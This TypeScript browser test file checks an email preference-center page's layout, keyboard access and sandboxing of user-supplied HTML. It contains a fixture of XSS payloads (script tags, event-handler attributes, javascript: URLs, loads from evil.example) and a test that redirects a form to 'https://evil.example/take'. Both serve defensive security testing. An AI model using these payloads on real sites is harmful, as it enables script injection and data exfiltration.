/** A person's own page in a browser: opened from the URL endpoint, changed, confirmed, and read back through the API. */
import type { Frame, Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { heddleSuite } from "../suite.ts";
import { centerDeclaration, freshWorkspace, letter, news, scriptedKey, storedPage } from "../preference-centers.ts";
import { browserMissing, browserSuite, keepPicture } from "./browser.ts";

describe.skipIf(browserMissing)("in Chromium", () => {
  const suite = heddleSuite({ apply: centerDeclaration });
  const browser = browserSuite();

  test.each([["phone", 390], ["desktop", 1_280]])("the built-in page on a %s changes two groups, by its labels", async (device, width) => {
    const workspace = freshWorkspace(suite);
    const ann = await workspace.person("ann.of.the.long.address@mail.example.com");
    const id = await workspace.create({ preference_center_title: "Your emails from Wolfeschlegelsteinhausenbergerdorff & Co" });
    const { page, seen } = await browser.open(await workspace.url(id, ann), width);
    await keepPicture(page, `built-in-${device}`);
    // A phone makes its window as wide as what does not fit
    expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(width);
    await page.getByLabel("Weekly letter").check();
    await page.getByLabel("News & <more>").check();
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByRole("heading", { name: "Your choices are saved" }).waitFor();
    expect(await page.getByRole("status").isVisible()).toBe(true);
    await keepPicture(page, `built-in-confirmation-${device}`);
    expect([await workspace.state(letter, ann), await workspace.state(news, ann)]).toEqual(["Subscribed", "Subscribed"]);
    await page.getByRole("link", { name: "Back to your settings" }).click();
    expect(await page.getByLabel("Weekly letter").isChecked()).toBe(true);
    await page.getByLabel("Weekly letter").uncheck();
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByRole("heading", { name: "Your choices are saved" }).waitFor();
    expect([await workspace.state(letter, ann), await workspace.state(news, ann)]).toEqual(["Unsubscribed", "Subscribed"]);
    expect(seen).toEqual({ dialogs: [], foreign: [], console: [] });
  });

  test.each(["/preferences/none", "/unsubscribe/none"])(
    "a link that is not valid, %s, is said in the colours of the person's screen",
    async (path) => {
      const { page } = await browser.open(`${suite.heddle.url}${path}`, 390);
      await page.getByRole("heading", { level: 1 }).waitFor();
      const colours = [];
      for (const colorScheme of ["light", "dark"] as const) {
        await page.emulateMedia({ colorScheme });
        colours.push(await page.evaluate("getComputedStyle(document.body).color"));
      }
      expect(colours).toEqual(["rgb(27, 27, 31)", "rgb(242, 242, 245)"]);
    },
  );

  test("names of any direction and punctuation stand as they are", async () => {
    const workspace = freshWorkspace(suite);
    const id = await workspace.create({ preference_center_title: "تفضيلات!" });
    const { page } = await browser.open(await workspace.url(id, await workspace.person()), 390);
    expect(await page.evaluate("[...document.querySelectorAll('h1 bdi, label bdi')].map((name) => name.textContent)"))
      .toEqual(["تفضيلات!", "Weekly letter", "News & <more>"]);
  });

  test("the built-in page is worked by keyboard alone", async () => {
    const workspace = freshWorkspace(suite);
    const ann = await workspace.person();
    const { page } = await browser.open(await workspace.url(await workspace.create(), ann));
    await page.keyboard.press("Tab");
    expect(await focused(page)).toBe("Weekly letter");
    await page.keyboard.press("Space");
    for (const name of ["News & <more>", "Unsubscribe me from all emails", "Save"]) {
      await page.keyboard.press("Tab");
      expect(await focused(page)).toBe(name);
    }
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Your choices are saved" }).waitFor();
    expect([await workspace.state(letter, ann), await workspace.emailState(ann)]).toEqual(["Subscribed", "subscribed"]);
  });

  test.each([["phone", 390], ["desktop", 1_280]])("a stored page on a %s changes two groups and all email", async (device, width) => {
    const workspace = freshWorkspace(suite);
    const ann = await workspace.person();
    const id = await workspace.create({
      preference_center_page_html: storedPage,
      confirmation_page_html: "<h1>Thank you</h1><p>{{subscribed_state.${email_global}}}</p>",
      options: { "meta-viewport-content": "width=device-width, initial-scale=1" },
    });
    const url = await workspace.url(id, ann);
    const { page } = await browser.open(url, width);
    await keepPicture(page, `stored-${device}`);
    await page.getByLabel("Letter").check();
    await page.getByLabel("News").check();
    await page.getByLabel("No email").check();
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByRole("heading", { name: "Thank you" }).waitFor();
    expect(await page.textContent("p")).toBe("unsubscribed");
    expect([await workspace.state(letter, ann), await workspace.state(news, ann)]).toEqual(["Subscribed", "Subscribed"]);
    expect(await workspace.emailState(ann)).toBe("unsubscribed");
    await page.goto(url);
    await page.getByLabel("No email").uncheck();
    await page.getByLabel("News").uncheck();
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByRole("heading", { name: "Thank you" }).waitFor();
    expect([await workspace.state(news, ann), await workspace.emailState(ann)]).toEqual(["Unsubscribed", "subscribed"]);
  });

  test("no script of hostile HTML runs, nothing of it is loaded from elsewhere, and its form goes nowhere else", async () => {
    const workspace = freshWorkspace(suite);
    const ann = await workspace.person("ann+o'hara@example.com");
    const hostile = storedPage.replace("<h1>", `${hostileHtml}<h1>`);
    const url = await workspace.url(
      await workspace.create({ preference_center_page_html: hostile, confirmation_page_html: hostileHtml }),
      ann,
    );
    const { page, seen } = await browser.open(url);
    await page.locator("#click").click();
    await page.locator("#hover").hover();
    await page.locator("#stolen").click();
    expect(await page.title()).not.toBe("owned");
    expect(page.url()).toBe(url);
    await page.getByLabel("Letter").check();
    await page.getByRole("button", { name: "Save" }).click();
    await page.waitForURL(`${url}?save`);
    expect(await page.title()).not.toBe("owned");
    expect([seen.dialogs, seen.foreign]).toEqual([[], []]);
    expect(await workspace.state(letter, ann)).toBe("Subscribed");
  });

  test("a form that a page leads elsewhere after all is stopped by the browser", async () => {
    const workspace = freshWorkspace(suite);
    const { page, seen } = await browser.open(
      await workspace.url(await workspace.create({ preference_center_page_html: storedPage }), await workspace.person()),
    );
    await page.evaluate(`document.forms[0].setAttribute("action", "https://evil.example/take")`);
    await page.getByRole("button", { name: "Save" }).click({ noWaitAfter: true });
    await expect.poll(() => seen.console.join("\n")).toContain("form-action");
    expect(seen.foreign).toEqual([]);
  });

  test("where a workspace allows scripts the way of the published sample works, and nothing that is not listed is loaded", async () => {
    const workspace = freshWorkspace(suite, scriptedKey);
    const ann = await workspace.person();
    const id = await workspace.create({ preference_center_page_html: scriptedPage, confirmation_page_html: "<h1>Thank you</h1>" });
    const url = await workspace.url(id, ann);
    const { page, seen } = await browser.open(url);
    const content = page.frameLocator("iframe");
    await content.getByLabel("Letter").check();
    await content.getByRole("button", { name: "Save" }).click();
    await content.getByRole("heading", { name: "Thank you" }).waitFor();
    expect([await workspace.state(letter, ann), seen.foreign, await page.evaluate("window.origin")]).toEqual(["Subscribed", [], "null"]);
    // Back, and once more, as on any page
    await page.goBack();
    await content.getByLabel("Letter").uncheck();
    await content.getByRole("button", { name: "Save" }).click();
    await content.getByRole("heading", { name: "Thank you" }).waitFor();
    expect(await workspace.state(letter, ann)).toBe("Unsubscribed");
  });

  test.each([["phone", 390], ["desktop", 1_280]])(
    "a page with scripts on a %s is as one without: title, language, width, keys, print",
    async (device, width) => {
      const workspace = freshWorkspace(suite, scriptedKey);
      const ann = await workspace.person();
      const html = scriptedPage.replace("<head>", '<head><title>Your emails</title><meta name="viewport" content="width=device-width">')
        .replace("<body>", '<body><a href="#far">Far below</a>')
        .replace(
          "</body>",
          '<p style="height:2000px">Between</p><h2 id="far" style="margin-bottom:2000px">Far</h2><a href="https://shop.example/">Shop</a></body>',
        );
      const { page, seen } = await browser.open(
        await workspace.url(await workspace.create({ preference_center_page_html: html }), ann),
        width,
      );
      const content = page.frames()[1] as Frame;
      await keepPicture(page, `scripted-${device}`);
      expect(await page.title()).toBe("Your emails");
      expect(await page.evaluate("[document.documentElement.lang, document.querySelector('iframe').title]")).toEqual(["en", "Your emails"]);
      expect(await page.evaluate("document.documentElement.scrollWidth <= window.innerWidth && window.innerWidth")).toBe(width);
      expect(await content.evaluate("[window.innerWidth, window.innerHeight]")).toEqual([width, 844]);
      // The keys are the page's from the beginning: one scrolls it, the next goes to its first link
      await page.keyboard.press("PageDown");
      await expect.poll(() => content.evaluate("window.scrollY")).toBeGreaterThan(100);
      await page.keyboard.press("Tab");
      expect(await content.evaluate("document.activeElement.textContent")).toBe("Far below");
      // A place within the page is gone to without leaving it, so no choice is lost
      await content.getByLabel("Letter").check();
      await content.getByRole("link", { name: "Far below" }).click();
      await expect.poll(() => content.evaluate("Math.abs(document.querySelector('#far').getBoundingClientRect().top) < 10")).toBe(true);
      expect(await content.getByLabel("Letter").isChecked()).toBe(true);
      await page.emulateMedia({ media: "print" });
      expect(await page.evaluate("document.querySelector('iframe').getBoundingClientRect().height")).toBe(2 * 844);
      await page.emulateMedia({ media: "screen" });
      await content.getByRole("link", { name: "Shop" }).click({ noWaitAfter: true });
      await expect.poll(() => seen.foreign).toEqual(["https://shop.example/"]);
    },
  );

  test("a page has an origin of nobody: no cookie and no storage of the server can be reached from it", async () => {
    const workspace = freshWorkspace(suite);
    const ann = await workspace.person();
    const { page } = await browser.open(await workspace.url(await workspace.create({ preference_center_page_html: storedPage }), ann));
    expect(await page.evaluate("window.origin")).toBe("null");
  });
});

/** Checkboxes without a name, and hidden fields that a script fills. */
const scriptedPage = `<!doctype html><html lang="en"><head><script>
  window.onload = () => {
    const box = document.querySelector("#box"), value = document.querySelector("#value");
    const set = () => { value.value = box.checked ? "subscribed" : "unsubscribed"; };
    box.checked = '{{subscribed_state.\${${letter}}}}' == "subscribed";
    box.onchange = set;
    set();
  };
</script></head><body><form action="{{ preference_center_submit_url }}" method="post">
  <label><input type="checkbox" id="box"> Letter</label>
  <input type="hidden" id="value" name="{% form_field_name :subscription_group ${letter} %}" />
  <input type="submit" value="Save">
</form><img src="https://evil.example/a.png"></body></html>`;

const hostileHtml = `
<script>document.title = "owned"; alert("script")</script>
<script src="https://evil.example/a.js"></script>
<img src="x" onerror="alert('onerror')">
<img src="https://evil.example/pixel.png">
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<a id="click" href="javascript:alert('link')">click</a>
<p id="hover" onmouseover="alert('hover')" onpointerenter="alert('enter')">hover</p>
<iframe src="javascript:alert('frame')"></iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="https://evil.example/o"></object>
<link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url(https://evil.example/b.css); body { background: url(https://evil.example/bg.png) }
@font-face { font-family: x; src: url(https://evil.example/f.woff) } h1 { font-family: x }</style>
<button id="stolen" type="button" onclick="alert('button')">button</button>
<details open ontoggle="alert('toggle')"><summary>more</summary></details>
<video poster="https://evil.example/p.png"></video>
`;

async function focused(page: Page): Promise<string> {
  return String(await page.evaluate("(document.activeElement.labels?.[0] ?? document.activeElement).textContent.trim()"));
}
